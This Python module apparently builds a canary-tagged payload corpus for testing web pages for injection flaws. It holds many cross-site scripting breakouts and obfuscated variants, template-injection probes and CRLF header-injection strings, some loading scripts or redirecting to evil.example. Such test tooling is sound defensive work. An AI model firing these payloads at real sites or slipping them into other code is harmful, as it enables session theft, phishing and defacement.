"""
What somebody may write who wants it to run on a page: families of markup, out of each context.

Every payload holds CANARY where it would become a name of an attribute, of a header, or code, so
that a page on which one had its way shows it there, whatever it was made of.
"""

from itertools import product

CANARY = "zq7"
# What is calculated, if a template takes text for its own.
SUM = f"{CANARY}1337{CANARY}"

# What ends the context in which a text may stand: an element, an attribute, a script, a comment.
_WAYS_OUT = (
    "",
    "'>",
    '">',
    "\"'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "</pre></code>",
    "</option></select>",
    "]]>",
    '\\">',
    "\n\n",
)
_MARKUP = (
    f"<script {CANARY}>alert(1)</script>",
    f"<ScRiPt {CANARY} src=//evil.example/x.js></sCrIpT>",
    f"<img {CANARY} src=x onerror=alert(1)>",
    f"<svg {CANARY} onload=alert(1)>",
    f"<svg><a {CANARY} xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    f"<iframe {CANARY} srcdoc='<script>alert(1)</script>'></iframe>",
    f"<math {CANARY}><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    f"<form {CANARY} action=//evil.example><button formaction=javascript:alert(1)></form>",
    f"<base {CANARY} href=//evil.example/>",
    f"<meta {CANARY} http-equiv=refresh content='0;url=//evil.example'>",
    f"<link {CANARY} rel=stylesheet href=//evil.example/x.css>",
    f"<style {CANARY}>*{{display:none}}</style>",
    f"<object {CANARY} data=data:text/html;base64,PHNjcmlwdD4=></object>",
)
_ATTRIBUTES = tuple(
    f"{quote} {CANARY}=1 {handler}=alert(1) x={quote}"
    for quote, handler in product(("'", '"', "`"), ("onmouseover", "onfocus autofocus", "style"))
)
_ADDRESSES = tuple(
    f"{scheme}alert(`{CANARY}`)"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "\tjava\tscript:",
        "java\nscript:",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,",
        "javascript&colon;",
        "\x01javascript:",
    )
)
_MARKDOWN = tuple(
    form.format(address)
    for form in ("[x]({})", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}")
    for address in (*_ADDRESSES[:4], f"http://evil.example/{CANARY}.png")
)
_TEMPLATES = tuple(
    form.format(f"{CANARY}", "{{7*191}}")
    for form in ("{0}{1}{0}", "{{% raw %}}{0}{1}{0}", "{0}${{7*191}}{0}", "{0}<%= 7*191 %>{0}")
)
_ENCODED = (
    f"&lt;script {CANARY}&gt;alert(1)&lt;/script&gt;",
    f"&#x3C;script {CANARY}&#x3E;alert(1)",
    f"%3Cscript%20{CANARY}%3Ealert(1)",
    f"\\u003cscript {CANARY}\\u003ealert(1)",
    f"+ADw-script {CANARY}+AD4-alert(1)",
    f"\uff1cscript {CANARY}\uff1ealert(1)",
    f"\u2039img {CANARY} onerror=alert(1)\u203a",
    f"<scr\u200bipt {CANARY}>alert(1)</scr\u200bipt>",
    f"<\u0131mg {CANARY} src=x onerror=alert(1)>",
    f"\u202e<b {CANARY}>\u202c",
)
_LINES = (
    f"x\r\nX-{CANARY}: 1",
    f"x\nSet-Cookie: {CANARY}=1",
    f"x%0d%0aX-{CANARY}:1",
    f"x\u2028X-{CANARY}: 1",
    f"\";alert('{CANARY}');//",
    f"'}};alert(`{CANARY}`);//",
    f"{CANARY}:expression(alert(1))",
    f"url(javascript:{CANARY})",
)

PAYLOADS = (
    *(f"{out}{markup}" for out, markup in product(_WAYS_OUT, _MARKUP)),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_MARKDOWN,
    *_TEMPLATES,
    *_ENCODED,
    *_LINES,
)
